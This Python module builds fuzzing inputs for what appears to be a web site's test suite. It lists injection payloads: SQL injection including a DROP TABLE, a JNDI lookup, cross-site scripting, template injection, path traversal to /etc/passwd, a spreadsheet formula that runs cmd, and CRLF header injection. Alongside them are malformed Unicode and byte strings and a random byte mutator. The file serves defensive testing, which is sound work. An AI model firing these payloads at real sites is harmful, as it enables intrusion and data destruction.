"""Strings that break sites, one of each family: our own, and all that can be made of them."""

from __future__ import annotations

import random
from collections.abc import Iterator, Sequence

SEEDS = [
    "' OR 1=1 --", '"; DROP TABLE signatures_signature; --', "1' UNION SELECT NULL,NULL--",
    "') ; SELECT pg_sleep(10) --", "\\'; --", "%27%20OR%201=1", "${jndi:ldap://x.example/a}",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>",
    "javascript:alert(1)", "</title><script>alert(1)</script>", "'-alert(1)-'", "<b>bold</b>",
    "{{ 7*7 }}", "{% debug %}", "#{7*7}", "<%= 7*7 %>", "&lt;script&gt;", "<!-- -->", "]]>",
    "../../../../etc/passwd", "..\\..\\windows", "/dev/null", "file:///etc/passwd", "CON", "NUL",
    "=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", "＝1+1",
    "\x00", "a\x00b", "\x07\x08\x1b[31m", "\r\nBcc: x@example.org", "\x7f", "\x85", "\u2028",
    "\u202eabc", "\u2066abc\u2069", "\u200f\u200e", "\ufeff", "\u200b", "\u3164", "\u00ad",
    "Z̸̧̢̢̛͎̟̙̤͈̟̭̮͙a̶̛l̷g̴o̵", "e\u0301" * 50, "a" + "\u0300" * 100, "\ufffe", "\ufdd0", "\U000e0041",
    "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇨🇳", "\U0001f4a9" * 40, "𝕳𝖊𝖑𝖑𝖔", "ﷺ", "ﬃ", "İ", "ß", "ſ", "Ω", "㍿",
    "undefined", "null", "None", "true", "NaN", "Infinity", "-1", "1e309", "0x0", "9" * 400,
    "()", "[]", "{}", "{\"$gt\": \"\"}", "a" * 10_000, "é" * 5_000, " " * 3_000, "%s%n%x", "%00",
    "http://[", "www.x.example/?q=<", "a@b", "a@[127.0.0.1]", "x" * 300 + "@example.org",
    "\"a b\"@example.org", "a@exa mple.org", "ä@exämple.org", "a@xn--.example", "a@.", "@",
    "a@\u202eexample.org", "postmaster@localhost", "a@" + "b" * 300 + ".org", "用户@例子.广告",
]  # fmt: skip
# Not text at all: halves of pairs, ends of nothing, and what is far too long.
RAW = [
    b"\xed\xa0\x80abc", b"\xff\xfe", b"\xc0\x80", b"\xf4\x90\x80\x80", b"a\xe2\x80", b"A" * 100_000,
    "é".encode() * 5_000, b"%0d%0aSet-Cookie: x=1", b"\x1b]0;x\x07",
    b"<\x00script>alert(1)</script>",
]  # fmt: skip


def naughty(more: Sequence[str]) -> list[bytes]:
    """Ours and `more`, as the bytes that a browser that knows no better would send."""
    return [*(string.encode("utf-8", "surrogatepass") for string in [*SEEDS, *more]), *RAW]


def changed(strings: list[bytes]) -> Iterator[bytes]:
    """Without end: one of `strings` with bytes put in anywhere; the same ones in every run."""
    chance = random.Random(1989)
    while True:
        string = bytearray(chance.choice(strings))
        for _time in range(chance.randint(1, 6)):
            string.insert(chance.randint(0, len(string)), chance.randint(0, 255))
        yield bytes(string)
